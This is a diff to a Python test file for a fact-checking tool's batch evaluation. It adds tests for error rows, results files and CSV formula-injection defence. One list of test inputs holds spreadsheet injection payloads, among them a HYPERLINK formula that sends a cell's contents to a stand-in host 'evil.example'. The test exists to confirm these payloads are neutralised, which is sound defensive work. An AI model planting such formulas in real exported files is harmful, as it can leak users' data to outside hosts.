@@ -14,10 +14,10 @@ from fever_core.evaluation.batch import (
     RESULT_COLUMNS,
     BatchJob,
     GoldData,
+    ResultsFile,
     predictions_jsonl,
     results_csv,
     run_batch,
-    write_results,
 )
 from fever_core.evaluation.run import evaluate
 from fever_core.formats import Claim, load_claims, read_claim_list
@@ -93,26 +93,79 @@ def test_a_batch_job_runs_in_its_own_thread_and_can_be_stopped(checker):
     assert stopped.report.stopped and stopped.done == 1 and stopped.report.rows == stopped.rows()
 
 
-def test_a_failing_check_ends_the_job_with_its_error(checker, monkeypatch):
-    monkeypatch.setattr(checker, "check", lambda *args: (_ for _ in ()).throw(RuntimeError("index gone")))
+def test_a_claim_whose_check_fails_is_a_row_with_its_error_and_the_batch_goes_on(checker, monkeypatch):
+    real = checker.check
+    monkeypatch.setattr(checker, "check", lambda claim, *args: (_ for _ in ()).throw(RuntimeError("index gone"))
+                        if claim.startswith("Jaws") else real(claim, *args))
     job = BatchJob(read_claim_list(SPEECH)).start(checker)
     job.wait(60)
-    assert job.error == "RuntimeError: index gone" and job.report.stopped and job.rows() == []
+    assert job.error == "" and not job.report.stopped and job.done == 3
+    first, failed, emoji = job.rows()
+    assert first.result is not None and failed.result is None and failed.error == "RuntimeError: index gone"
+    assert failed.fever_prediction()["predicted_label"] == NEI
+
+
+def write_rows(rows, path):
+    with ResultsFile(path) as out:
+        for row in rows:
+            out.write(row)
 
 
 def test_results_are_written_as_a_csv_table_or_fever_predictions(checker, tmp_path):
     rows = run_batch(checker, read_claim_list(SPEECH)).rows
-    write_results(rows, tmp_path / "out.csv")
+    write_rows(rows, tmp_path / "out.csv")
     table = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
     assert tuple(table[0]) == RESULT_COLUMNS and [r["claim"] for r in table] == [row.claim.claim for row in rows]
     assert table[2]["verdict"] == "" and "no words" in table[2]["error"]
     assert results_csv([]) == ",".join(RESULT_COLUMNS) + "\r\n"
-    write_results(rows, tmp_path / "out.jsonl")
+    assert (tmp_path / "out.csv").read_bytes().decode() == results_csv(row.record() for row in rows)
+    write_rows(rows, tmp_path / "out.jsonl")
     lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
     assert (tmp_path / "out.jsonl").read_text() == predictions_jsonl(rows)
     assert [list(line) for line in lines] == [["id", "claim", "predicted_label", "predicted_evidence"]] * 3
     with pytest.raises(ValueError, match=r"\.csv .* \.jsonl"):
-        write_results(rows, tmp_path / "out.txt")
+        ResultsFile(tmp_path / "out.txt")
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
+                 "\r=1+1"]
+
+
+def test_no_cell_of_a_results_table_starts_a_formula(checker, tmp_path):
+    claims = [Claim(cell, cell, None) for cell in HOSTILE_CELLS]
+    rows = run_batch(checker, claims).rows
+    table = list(csv.reader(io.StringIO(results_csv(row.record() for row in rows))))
+    assert [row[:2] for row in table[1:]] == [[f"'{cell}", f"'{cell}"] for cell in HOSTILE_CELLS]
+    assert not [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert table[1][4] == "" or float(table[1][4]) >= 0  # numbers stay numbers
+
+
+def test_a_batch_stopped_midway_keeps_the_rows_it_finished(settings, workspace, tiny_nli_model, tmp_path, monkeypatch):
+    from fever_core.pipeline import Checker
+
+    claims = tmp_path / "speech.txt"
+    claims.write_text(SPEECH)
+    real = Checker.check
+    monkeypatch.setattr(Checker, "check", lambda self, claim, *args: (_ for _ in ()).throw(KeyboardInterrupt)
+                        if claim.startswith("🙂") else real(self, claim, *args))  # Ctrl-C at the third claim
+    out = tmp_path / "results.jsonl"
+    with pytest.raises(KeyboardInterrupt):
+        main(["--data-dir", str(settings.data_dir), "check-batch", str(claims), "--corpus", "fixture",
+              "--model", str(tiny_nli_model), "--out", str(out)])
+    assert [json.loads(line)["claim"] for line in out.read_text().splitlines()] == SPEECH.splitlines()[:2]
+
+
+def test_a_lone_surrogate_in_a_claim_list_costs_no_result(settings, workspace, tiny_nli_model, tmp_path, capsys):
+    claims = tmp_path / "claims.jsonl"
+    claims.write_text('{"claim": "Fox 2000 Pictures released the film Soul \\ud800Food."}\n'
+                      '{"claim": "Jaws is a film by Steven \\udfffSpielberg."}\n')
+    out = tmp_path / "results.csv"
+    assert main(["--data-dir", str(settings.data_dir), "check-batch", str(claims), "--corpus", "fixture",
+                 "--model", str(tiny_nli_model), "--out", str(out)]) == 0
+    table = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert [row["claim"] for row in table] == ["Fox 2000 Pictures released the film Soul Food.",
+                                               "Jaws is a film by Steven Spielberg."]
+    assert all(row["verdict"] for row in table)
 
 
 def test_check_batch_command_prints_each_verdict_and_only_the_metrics_it_can(settings, workspace, tiny_nli_model,
